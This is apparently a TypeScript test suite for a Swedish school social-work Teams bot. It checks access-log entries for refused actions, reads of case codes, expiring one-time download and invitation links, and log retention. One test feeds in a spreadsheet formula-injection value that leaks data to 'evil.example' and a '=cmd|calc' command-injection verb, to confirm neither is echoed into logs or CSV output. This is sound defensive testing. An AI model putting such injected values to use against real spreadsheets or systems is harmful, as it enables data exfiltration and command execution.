import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { executeActivity, messageActivity, type TeamsUser } from '../fixtures/activities';
import { alva, concernForm, erik, eva, goran, personalConversation, samir, sara } from '../fixtures/people';
import { MARKERS, seedWorld, slotSource, tableRows, writeTwoTeamRoster, type World } from '../helpers/accessWorld';
import { startHarness, type Harness } from '../helpers/botHarness';
import { tableRosterStore } from '../../src/storage/rosterStore';
import { tableAccessLog } from '../../src/storage/accessLog';
import type { Roster } from '../../src/domain/roster';

const text = (x: unknown) => JSON.stringify(x) ?? '';
type Row = Record<string, any>;

/** Access-log rows written while `run` runs. */
async function logged(h: Harness, run: () => Promise<unknown>): Promise<Row[]> {
  const before = new Set((await tableRows(h, 'accessLog')).map((r) => `${r.partitionKey}/${r.rowKey}`));
  await run();
  return (await tableRows(h, 'accessLog')).filter((r) => !before.has(`${r.partitionKey}/${r.rowKey}`));
}

/** Replaces the roster the bot reads (as a new ROSTER_FILE would) and lets its 30-second cache lapse. */
async function changeRoster(h: Harness, rosterFile: string, change: (r: Roster) => void): Promise<void> {
  const roster = JSON.parse(readFileSync(rosterFile, 'utf8')) as Roster;
  change(roster);
  await tableRosterStore(h.bot.store, h.clock).importFile(roster);
  h.clock.advance(31_000);
}

const linkIn = (x: unknown, pattern: RegExp) => pattern.exec(text(x))?.[0];
const CSV_LINK = /http:\/\/127\.0\.0\.1:\d+\/api\/downloads\/[0-9a-f]{32}\.csv/;
const ICS_LINK = /http:\/\/127\.0\.0\.1:\d+\/api\/meetings\/[^"]+?\/[0-9a-f]{32}\.ics/;

describe('the access log: refusals by role, reads of case codes, links', function () {
  this.timeout(60_000);
  let h: Harness;
  let w: World;
  let rosterFile: string;

  beforeEach(async () => {
    rosterFile = writeTwoTeamRoster();
    h = await startHarness({ env: { ROSTER_FILE: rosterFile } });
    w = await seedWorld(h, slotSource());
  });
  afterEach(async () => h?.stop());

  const say = (who: TeamsUser, words: string) => h.post(messageActivity(who, h.connector.url, words));
  const act = (who: TeamsUser, verb: string, data: Record<string, unknown>) => h.post(executeActivity(who, h.connector.url, verb, data));

  it('writes every refusal by role, for commands and card actions alike, with the command or verb and nothing typed', async () => {
    const tries: Array<[string, TeamsUser, () => Promise<unknown>, string, string, string]> = [
      ['report command by an EHT member', eva, () => say(eva, 'rapport'), 'eht-1', 'export', 'command:report'],
      ['report card by a social worker', sara, () => act(sara, 'report.show', { preset: 'year' }), 'sw-1', 'export', 'card:report.show'],
      ['digest command by a social worker', sara, () => say(sara, 'sammanfattning'), 'sw-1', 'list', 'command:digest'],
      ['digest command by an admin', alva, () => say(alva, 'digest'), 'adm-1', 'list', 'command:digest'],
      ['audit command by a group leader', goran, () => say(goran, 'åtkomstlogg'), 'gl-1', 'export', 'command:audit'],
      ['audit export card by an EHT member', eva, () => act(eva, 'audit.export', { from: '2026-11-01', to: '2026-11-30' }), 'eht-1', 'export', 'card:audit.export'],
      ['assign-school command by a group leader', goran, () => say(goran, 'tilldela skola'), 'gl-1', 'reassignSchool', 'command:assignSchool'],
      ['assign-school card by a social worker', sara, () => act(sara, 'admin.assignSchool', { schoolId: 'ryd', socialWorkerId: 'sw-2' }), 'sw-1', 'reassignSchool', 'card:admin.assignSchool'],
      ['new-concern command by a social worker', sara, () => say(sara, 'ny oro'), 'sw-1', 'raise', 'command:newConcern'],
      ['concern submit by a social worker', sara, () => act(sara, 'concern.submit', concernForm()), 'sw-1', 'raise', 'card:concern.submit'],
      ['concern submit by a group leader', goran, () => act(goran, 'concern.submit', concernForm()), 'gl-1', 'raise', 'card:concern.submit'],
      ['concern submit by an admin', alva, () => act(alva, 'concern.submit', concernForm()), 'adm-1', 'raise', 'card:concern.submit'],
      ['book-meeting command by an admin', alva, () => say(alva, 'boka möte'), 'adm-1', 'bookMeeting', 'command:bookMeeting'],
      ['away command by an EHT member', eva, () => say(eva, 'frånvaro'), 'eht-1', 'setAway', 'command:away'],
      ['away card by a group leader', goran, () => act(goran, 'away.save', { op: 'set', awayUntil: '2026-12-01' }), 'gl-1', 'setAway', 'card:away.save'],
      ['booking form card by a group leader', goran, () => act(goran, 'meeting.form', { caseCode: w.R.code }), 'gl-1', 'bookMeeting', 'card:meeting.form'],
    ];
    const problems: string[] = [];
    for (const [label, , run, actorId, action, via] of tries) {
      const rows = await logged(h, run);
      const refusals = rows.filter((r) => r.allowed === false);
      if (refusals.length !== 1) problems.push(`${label}: ${refusals.length} refusal rows ${text(rows.map((r) => [r.actorId, r.action, r.via]))}`);
      else if (refusals[0].actorId !== actorId || refusals[0].action !== action || refusals[0].via !== via) problems.push(`${label}: ${text([refusals[0].actorId, refusals[0].action, refusals[0].via])}, expected ${text([actorId, action, via])}`);
      if (rows.some((r) => r.allowed === true)) problems.push(`${label}: something was allowed`);
    }
    if (problems.length > 0) assert.fail(`${problems.length} problem(s):\n  ${problems.join('\n  ')}`);
  });

  it('logs only known school ids: a tampered school is "(unknown)", never echoed (and never a formula in the CSV)', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Öppna")';
    const rows = await logged(h, () => act(eva, 'concern.submit', concernForm({ school: formula })));
    assert.equal(rows.length, 1);
    assert.equal(rows[0].schoolId, '(unknown)');
    const known = await logged(h, () => act(eva, 'concern.submit', concernForm({ school: 'berga' })));
    assert.equal(known[0].schoolId, 'berga', 'another school the roster knows is logged by its id');
    const tamperedVerb = await logged(h, () => h.post({ ...executeActivity({ aadObjectId: '00000000-0000-0000-0000-00000000f00f', name: 'X' }, h.connector.url, '=cmd|calc', { caseCode: w.R.code }) }));
    assert.deepEqual(tamperedVerb.map((r) => r.via), ['card:unknown'], 'a tampered verb is not echoed');
    const card = (await act(alva, 'audit.export', { from: '2026-11-01', to: '2026-11-30' })).body.value;
    const csv = await (await fetch(linkIn(card, CSV_LINK)!)).text();
    assert.doesNotMatch(csv, /HYPERLINK|evil\.example|=cmd/);
    assert.match(csv, /;Eva Kurator;eht-1;lyfte en oro;;\(unknown\);nej;kortet: Skicka oro till skolsociala teamet;card:concern\.submit/);
  });

  it('logs every read that shows case codes: the on-demand digest, the report and its CSV, the .ics invitation', async () => {
    // The digest: every code on the card is logged as read by the group leader.
    const digestRows = await logged(h, () => say(goran, 'sammanfattning'));
    const shown = new Set(text(h.connector.to(personalConversation(goran)).at(-1)).match(/SST-\d{4}-\d{4}/g) ?? []);
    assert.ok(shown.size > 0, 'the digest shows case codes');
    assert.deepEqual(new Set(digestRows.filter((r) => r.via === 'command:digest' && r.actorId === 'gl-1' && r.allowed === true).map((r) => r.caseCode)), shown);

    // The report card and its CSV download.
    let reportCard: unknown;
    const reportRows = await logged(h, async () => (reportCard = (await act(goran, 'report.show', { preset: 'year' })).body.value));
    assert.deepEqual(reportRows.map((r) => [r.actorId, r.action, r.via, r.allowed]), [['gl-1', 'export', 'report:2026-01-01..2026-12-31', true]]);
    const csvRows = await logged(h, async () => assert.equal((await fetch(linkIn(reportCard, CSV_LINK)!)).status, 200));
    assert.deepEqual(csvRows.map((r) => [r.actorId, r.action, r.via, r.allowed]), [['download-link', 'export', 'download:report:2026-01-01..2026-12-31:created-by:gl-1', true]]);

    // The invitation of a confirmed meeting.
    const accepted = (await act(sara, 'meeting.accept', { teamId: w.R.teamId, meetingId: w.R.meetingId, start: slotSource()() })).body.value;
    const ics = linkIn(accepted, ICS_LINK);
    assert.ok(ics, text(accepted).slice(0, 300));
    const icsRows = await logged(h, async () => assert.equal((await fetch(ics)).status, 200));
    assert.deepEqual(icsRows.map((r) => [r.actorId, r.action, r.caseCode, r.schoolId, r.via, r.allowed]), [['invitation-link', 'view', w.R.code, 'ryd', 'http:ics', true]]);
  });

  describe('download links', () => {
    const reportLink = async (who = goran) => linkIn((await act(who, 'report.show', { preset: 'year' })).body.value, CSV_LINK)!;

    it('work once, with no-store and nosniff; the second fetch is told so in Swedish or English', async () => {
      const url = await reportLink();
      const first = await fetch(url);
      assert.equal(first.status, 200);
      assert.equal(first.headers.get('cache-control'), 'no-store');
      assert.equal(first.headers.get('x-content-type-options'), 'nosniff');
      assert.match(await first.text(), /period;mått;värde/);
      const second = await fetch(url);
      assert.equal(second.status, 404);
      assert.equal(second.headers.get('cache-control'), 'no-store');
      assert.equal(second.headers.get('x-content-type-options'), 'nosniff');
      assert.match(await second.text(), /Länken är redan använd eller har gått ut/);
      const english = await fetch(url, { headers: { 'accept-language': 'en-GB,en;q=0.9' } });
      assert.match(await english.text(), /already been used or has expired/);
    });

    it('give the file to only one of two simultaneous fetches', async () => {
      const url = await reportLink();
      const statuses = (await Promise.all([fetch(url), fetch(url), fetch(url)])).map((r) => r.status).sort();
      assert.deepEqual(statuses, [200, 404, 404]);
    });

    it('last ten minutes', async () => {
      const early = await reportLink();
      h.clock.advance(9 * 60_000 + 59_000);
      assert.equal((await fetch(early)).status, 200, 'at 9:59');
      const late = await reportLink();
      h.clock.advance(10 * 60_000);
      assert.equal((await fetch(late)).status, 404, 'at 10:00');
    });

    it('are checked against the creator\'s role when fetched: a group leader or admin who lost the role gets nothing, and it is logged', async () => {
      const report = await reportLink();
      const audit = linkIn((await act(alva, 'audit.export', { from: '2026-11-01', to: '2026-11-30' })).body.value, CSV_LINK)!;
      await changeRoster(h, rosterFile, (r) => {
        for (const p of r.people) if (p.id === 'gl-1' || p.id === 'adm-1') p.roles = ['socialWorker'];
      });
      let res: Response | undefined;
      const rows = await logged(h, async () => {
        res = await fetch(report);
      });
      assert.equal(res!.status, 403);
      assert.equal(res!.headers.get('cache-control'), 'no-store');
      assert.match(await res!.text(), /får inte längre hämta filen/);
      assert.deepEqual(rows.map((r) => [r.actorId, r.via, r.allowed]), [['download-link', 'download:report:2026-01-01..2026-12-31:created-by:gl-1', false]]);
      const auditRows = await logged(h, async () => assert.equal((await fetch(audit)).status, 403));
      assert.deepEqual(auditRows.map((r) => [r.actorId, r.via, r.allowed]), [['download-link', 'download:audit:2026-11-01..2026-11-30:created-by:adm-1', false]]);
    });
  });

  describe('.ics invitation links', () => {
    const confirm = async (who: TeamsUser, c: World['R']) => {
      const start = c === w.R ? slotSource()() : (() => { const s = slotSource(); s(); return s(); })();
      const card = (await act(who, 'meeting.accept', { teamId: c.teamId, meetingId: c.meetingId, start })).body.value;
      const link = linkIn(card, ICS_LINK);
      assert.ok(link, text(card).slice(0, 300));
      return link;
    };

    it('work while the meeting is ahead, with no-store and nosniff, and stop when it has ended', async () => {
      const link = await confirm(sara, w.R);
      const ok = await fetch(link);
      assert.equal(ok.status, 200);
      assert.equal(ok.headers.get('cache-control'), 'no-store');
      assert.equal(ok.headers.get('x-content-type-options'), 'nosniff');
      assert.doesNotMatch(await ok.text(), new RegExp(MARKERS.R.summary));
      h.clock.set('2026-11-24T10:00:00+01:00'); // the 09:00 meeting (60 minutes) has ended
      const ended = await fetch(link);
      assert.equal(ended.status, 404);
      assert.equal(ended.headers.get('cache-control'), 'no-store');
      assert.equal(ended.headers.get('x-content-type-options'), 'nosniff');
      assert.match(await ended.text(), /Kallelsen finns inte längre/);
    });

    it('stop when the meeting is cancelled', async () => {
      const link = await confirm(samir, w.B);
      assert.equal((await fetch(link)).status, 200);
      await act(erik, 'meeting.cancel', { teamId: w.B.teamId, meetingId: w.B.meetingId });
      assert.equal((await fetch(link)).status, 404);
    });

    it('stop when the case is closed', async () => {
      const link = await confirm(sara, w.R);
      assert.equal((await fetch(link)).status, 200);
      assert.match(text((await act(sara, 'case.close', { caseCode: w.R.code, outcome: 'attendanceImproved', sameSchool: 'yes', absenceValid: '4', absenceInvalid: '2' })).body), /avslutat/i);
      assert.equal((await fetch(link)).status, 404);
    });
  });
});

describe('access-log retention', () => {
  it('purges only the months older than ACCESS_LOG_RETENTION_MONTHS, however old, and keeps every later month', async () => {
    const h = await startHarness({ env: { ACCESS_LOG_RETENTION_MONTHS: '6' }, now: '2026-11-23T09:00:00+01:00' });
    try {
      const months = ['2019-03', '2023-12', '2024-11', '2026-04', '2026-05', '2026-06', '2026-10', '2026-11'];
      await tableAccessLog(h.bot.store).recordMany(months.flatMap((m) => [1, 2].map((d) => ({ at: `${m}-0${d}T12:00:00.000Z`, actorId: 'eht-1', action: 'view' as const, caseCode: 'SST-2026-0001', allowed: true, via: 'test' }))));
      h.clock.set('2026-11-24T03:30:00+01:00');
      await h.bot.tick();
      const left = [...new Set((await tableRows(h, 'accessLog')).filter((r) => r.via === 'test').map((r) => String(r.partitionKey)))].sort();
      // Six months before 24 November 2026 is 24 May: May and later stay, April and earlier go.
      assert.deepEqual(left, ['2026-05', '2026-06', '2026-10', '2026-11']);
      assert.equal((await tableRows(h, 'accessLog')).filter((r) => r.partitionKey === '2026-05').length, 2);
    } finally {
      await h.stop();
    }
  });
});
